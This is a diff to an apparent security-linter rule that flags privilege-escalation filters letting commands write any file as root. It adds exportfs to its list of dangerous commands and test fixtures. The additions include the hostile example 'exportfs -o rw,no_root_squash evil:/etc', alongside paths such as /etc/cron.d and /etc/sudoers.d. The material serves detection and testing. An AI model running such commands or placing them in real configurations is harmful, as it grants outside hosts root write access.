@@ -1,7 +1,7 @@
 """A command that writes any file.
 
 ``tee``, ``cp``, ``mv``, ``dd``, ``ln`` and their like put any content at any path: into
-/etc/cron.d, /etc/sudoers.d or /root/.ssh. That is root.
+/etc/cron.d, /etc/sudoers.d or /root/.ssh. That is root. ``exportfs`` lets another host do it.
 
 Instead: a pattern for the path (see PM208 for ``..``), or a generated entrypoint whose path is
 held within its folder when the file is opened.
@@ -40,6 +40,8 @@ WAYS: Final = (
     Way("xxd", "-r /tmp/x /etc/cron.d/x", Gain.WRITE),
     Way("qemu-img", "convert /tmp/x /etc/cron.d/x", Gain.WRITE, place=Place.FIRST),
     Way("rsync", "/tmp/x /etc/cron.d/x", Gain.WRITE),
+    # exports(5): root of that host is root here
+    Way("exportfs", "-o rw,no_root_squash evil:/etc", Gain.WRITE),
 )
 
 EXAMPLES: Final = (
@@ -60,6 +62,15 @@ EXAMPLES: Final = (
         "[Filters]\nt: RegExpFilter, tee, root, tee, /var/lib/x/.*\n",
         "2:1",
         "t writes any file as root: tee /var/lib/x/../../../../../../../../etc/cron.d/x",
+    ),
+    Finds(
+        "an export to whom the caller names",
+        "[Filters]\ne: CommandFilter, exportfs, root\n",
+        "2:1",
+        "e writes any file as root: exportfs -o rw,no_root_squash evil:/etc",
+    ),
+    Clean(
+        "exports taken back", "[Filters]\ne: RegExpFilter, exportfs, root, exportfs, -u, .*:/.*\n"
     ),
     Clean(
         "one name in one folder", "[Filters]\nt: RegExpFilter, tee, root, tee, /var/lib/x/[^/]+\n"
